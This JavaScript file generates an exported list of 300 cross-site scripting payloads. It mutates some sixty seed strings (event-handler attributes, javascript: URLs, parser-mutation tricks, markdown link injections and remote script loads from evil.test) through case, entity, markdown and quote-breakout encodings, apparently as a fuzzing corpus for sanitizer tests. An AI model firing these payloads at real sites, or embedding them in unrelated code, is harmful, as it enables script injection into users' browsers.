/** What makes a careless page run a script: by tags, by attributes, by addresses, by what a parser mends. */
const seeds = [
  '<script>alert(1)</script>', '<script src=//evil.test/x.js></script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<svg><script>alert(1)</script></svg>',
  '<img src=x onerror=alert(1)>', '<img/src/onerror=alert(1)>', '<img src=x:x onerror\n=\nalert(1)>', '<img srcset=x onerror=alert(1)>', '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><a xlink:href=javascript:alert(1)><text y=20>x', '<math><a href=javascript:alert(1)>x</a></math>',
  '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<object data=javascript:alert(1)>', '<embed src=javascript:alert(1)>', '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">', '<form action=javascript:alert(1)><button>x', '<button formaction=javascript:alert(1)>x', '<base href=javascript:alert(1)//>', '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<style>@import "//evil.test/x.css";</style>', '<marquee onstart=alert(1)>', '<a href=javascript:alert(1)>x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<p style=animation-name:x onanimationstart=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<template><img src=x onerror=alert(1)></template>', '<xss contenteditable onfocus=alert(1) autofocus>',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\tscript:alert(1))', '[x](&#106;avascript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:alert(1))', '![x](javascript:alert(1))', '![x](x" onerror="alert(1))', '[x](https://ok.test" onmouseover="alert(1))', '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]', '`<img src=x onerror=alert(1)>`', '```html" onload="alert(1)\nx\n```', '```\n</code></pre><img src=x onerror=alert(1)>\n```', '> <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n| - |\n| x |', 'https://ok.test/"onmouseover="alert(1)', 'javascript:alert(1)', '@ada<img src=x onerror=alert(1)>', '{{constructor.constructor("alert(1)")()}}',
];

const hide = (text) => text.replace(/[<>"']/gu, (sign) => `&#${sign.codePointAt(0)};`);

/** The same in other clothes. */
const clothes = [
  (text) => text,
  (text) => text.replace(/[a-z]/gu, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)).replaceAll(/alert/giu, 'alert'),
  hide,
  (text) => `**${text}**`,
  (text) => `"/>${text}`,
  (text) => `- ${text}`,
];

/** Three hundred of them, no two the same. */
export const payloads = [...new Set(clothes.flatMap((dress) => seeds.map(dress)))].slice(0, 300);
